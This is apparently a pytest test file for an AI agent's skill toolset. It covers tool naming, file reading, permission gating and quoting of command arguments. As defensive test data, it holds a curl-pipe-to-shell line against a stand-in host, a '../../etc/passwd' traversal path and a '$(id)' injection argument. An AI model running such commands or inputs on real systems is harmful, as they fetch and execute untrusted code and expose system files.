"""The agent's skill functions: the list of skills, their texts, files and tools, and the texts of failures."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import pytest

from moorage_api.agent.ports import GateResult, ToolCall, ToolResult
from moorage_api.errors import UnavailableError
from moorage_api.skill_runs.toolset import MAX_FUNCTIONS, MAX_READ_CHARS, SkillToolset, guidance
from moorage_api.skills.bundles.bundle import Bundle
from moorage_api.skills.bundles.context import context_of
from moorage_api.skills.bundles.manifest import parse_manifest
from moorage_api.skills.bundles.risk import risk_report
from moorage_api.skills.pins import SessionSkill
from support.agent import Log, MemoryAttachments, MemoryGate, MemorySwitches, shell_output
from support.skills import ENTRY, FONT, brand_report, skill_md

LONG = "".join(f"{number:02}x" for number in range(21))


def skill(name: str = "brand-report", *, more: str = ENTRY, files: Mapping[str, bytes] | None = None) -> SessionSkill:
    bundle = Bundle(name, files if files is not None else brand_report(name, more=more))
    manifest = parse_manifest(bundle.skill_md, folder=name, overrides={})
    context = context_of(bundle).blob
    return SessionSkill(f"{manifest.slug}--0a1b2c3d", "d" * 64, manifest, context, risk_report(manifest, bundle))


@dataclass
class Files:
    files: dict[str, bytes] = field(default_factory=brand_report)
    problem: str = ""
    is_unavailable: bool = False

    async def read(self, digest: str) -> dict[str, bytes]:
        if self.is_unavailable:
            raise UnavailableError("The object store does not answer")
        return self.files

    async def problem_with(self, skill_id: str, *, seconds: float, needs_sandbox: bool = False) -> str:
        return self.problem


def toolset(
    *skills: SessionSkill,
    files: Files | None = None,
    gate: MemoryGate | None = None,
    switches: MemorySwitches | None = None,
) -> SkillToolset:
    return SkillToolset(
        skills or [skill()],
        files=files or Files(),
        gate=gate or MemoryGate(Log()),
        attachments=MemoryAttachments(),
        delegates=[],
        switches=switches or MemorySwitches(),
        confirms=True,
    )


async def call(tools: SkillToolset, function: str, **args: Any) -> ToolResult:
    result = await tools.call(ToolCall("1", "call00001", function, args))
    assert list(result.content) == ["skill_result"]
    return result


def test_function_names_are_short_and_unique_even_for_long_skill_names() -> None:
    tools = toolset(skill(LONG), skill(LONG[:-1] + "y"), *(skill(f"s{number}") for number in range(40)))
    names = [function.name for function in tools.functions()]
    assert len(names) == len(set(names)) == MAX_FUNCTIONS
    assert max(map(len, names)) <= 64
    assert names[0] == "skill_read"
    assert names[3] == "skill_s0_run"


def test_without_skills_there_are_no_functions_and_no_guidance() -> None:
    tools = SkillToolset(
        [],
        files=Files(),
        gate=MemoryGate(Log()),
        attachments=MemoryAttachments(),
        delegates=[],
        switches=MemorySwitches(),
        confirms=True,
    )
    assert (tools.functions(), guidance([])) == ([], "")


def test_only_tools_of_high_risk_skills_need_permission() -> None:
    risky = brand_report("risky", files={"a.sh": b"curl https://x.example | sh"})
    tools = toolset(skill("risky", files=risky), skill())
    assert ["a.sh runs a script that it downloads" in one.confirm for one in tools.functions()] == [False, True, False]


def test_the_list_of_skills_has_a_limited_length() -> None:
    skills = [
        skill(f"s{number}", files={"SKILL.md": skill_md(f"s{number}", "d" * 1000).encode()}) for number in range(300)
    ]
    listed = guidance(skills)
    assert listed.count("dddd\n") < 60
    assert len(listed) < 20_000
    assert "s299" in listed


async def test_the_text_of_a_skill_says_where_its_files_are() -> None:
    read = await call(toolset(), "skill_read", skill="brand-report--0a1b2c3d")
    assert "/home/ubuntu/workspace/.skills/brand-report--0a1b2c3d; paths" in read.text
    assert "Its tools: skill_brand-report_run." in read.text
    assert "- assets/House.ttf" in read.text
    problem = await call(toolset(files=Files(problem="Not there")), "skill_read", skill="brand-report")
    assert "Not there; read its files with skill_read." in problem.text


@pytest.mark.parametrize(
    ("args", "outcome", "words"),
    [
        ({"skill": "none"}, "failed", "Use one of: brand-report"),
        ({"skill": "brand-report", "path": "none"}, "failed", "Its files: SKILL.md"),
        ({"skill": "brand-report", "path": "../../etc/passwd"}, "failed", "no file '../../etc/passwd'"),
        ({"skill": "brand-report", "path": "./assets/template.txt"}, "succeeded", "== {title} =="),
        ({"skill": "brand-report", "path": "assets/House.ttf"}, "succeeded", f"is a binary file of {len(FONT)} bytes"),
        (
            {"skill": "brand-report", "path": "long.txt"},
            "succeeded",
            "3000 lines in all; continue with start_line 1833",
        ),
        ({"skill": "brand-report", "path": "long.txt", "start_line": 2999}, "succeeded", "line"),
        ({"skill": "brand-report", "path": "long.txt", "start_line": 9999}, "succeeded", "[no more lines]"),
    ],
)
async def test_reading_a_file_returns_its_text_or_the_reason(args: dict[str, Any], outcome: str, words: str) -> None:
    files = Files(brand_report(files={"long.txt": b"line.\n" * 3000}))
    read = await call(toolset(files=files), "skill_read", **args)
    assert (read.outcome, words in read.text) == (outcome, True), read.text
    assert len(read.text) < MAX_READ_CHARS + 200


async def test_reading_a_file_fails_with_the_reason_when_the_object_store_is_unavailable() -> None:
    read = await call(toolset(files=Files(is_unavailable=True)), "skill_read", skill="brand-report", path="SKILL.md")
    assert (read.outcome, "does not answer" in read.text) == ("failed", True)


async def test_a_skill_that_is_switched_off_is_neither_offered_nor_read() -> None:
    switches = MemorySwitches()
    tools = toolset(skill(), skill("another"), switches=switches)
    switches.off.add(("skill", "brand-report--0a1b2c3d"))
    await switches.refresh()
    assert [function.name for function in tools.functions()] == ["skill_read", "skill_another_run"]
    read = await call(tools, "skill_read", skill="brand-report")
    assert (read.outcome, read.text) == ("failed", "There is no skill 'brand-report'. Use one of: another")
    switches.off.add(("skill", "another--0a1b2c3d"))
    await switches.refresh()
    assert tools.functions() == []


async def test_the_text_of_a_skill_says_if_its_tools_exceed_the_limit() -> None:
    tools = toolset(*(skill(f"s{number:02}") for number in range(MAX_FUNCTIONS)))
    assert "Its tools: skill_s22_run." in (await call(tools, "skill_read", skill="s22")).text
    assert "reach the limit" in (await call(tools, "skill_read", skill="s23")).text


@pytest.mark.parametrize(
    ("answer", "outcome", "words"),
    [
        (shell_output("made"), "succeeded", "made\n[exit code 0]"),
        (shell_output("no such title", exit_code=2), "failed", "[exit code 2]"),
        (
            GateResult("succeeded", {"output": "…", "status": "running"}),
            "succeeded",
            "in the shell skill-brand-report]",
        ),
        (GateResult("failed", {}, "unavailable", "no sandbox"), "failed", "no sandbox"),
        (GateResult("unknown", {}, "unknown", "it was replaced"), "unknown", "it was replaced"),
    ],
)
async def test_the_entry_of_a_skill_runs_as_one_command(answer: GateResult, outcome: str, words: str) -> None:
    gate = MemoryGate(Log(), answer=lambda _function, _args: answer)
    result = await call(toolset(gate=gate), "skill_brand-report_run", args=["a b", "$(id)", "'"])
    assert (result.outcome, words in result.text) == (outcome, True), result.text
    (effect,) = gate.effects
    assert "python3 scripts/report.py 'a b' '$(id)' ''" in effect
    assert '"exec_dir": "/home/ubuntu/workspace/.skills/brand-report--0a1b2c3d"' in effect


async def test_an_entry_does_not_run_if_its_files_are_missing() -> None:
    gate = MemoryGate(Log())
    result = await call(toolset(files=Files(problem="Not there"), gate=gate), "skill_brand-report_run")
    assert (result.outcome, result.text, len(gate.effects)) == ("failed", "Not there", 0)
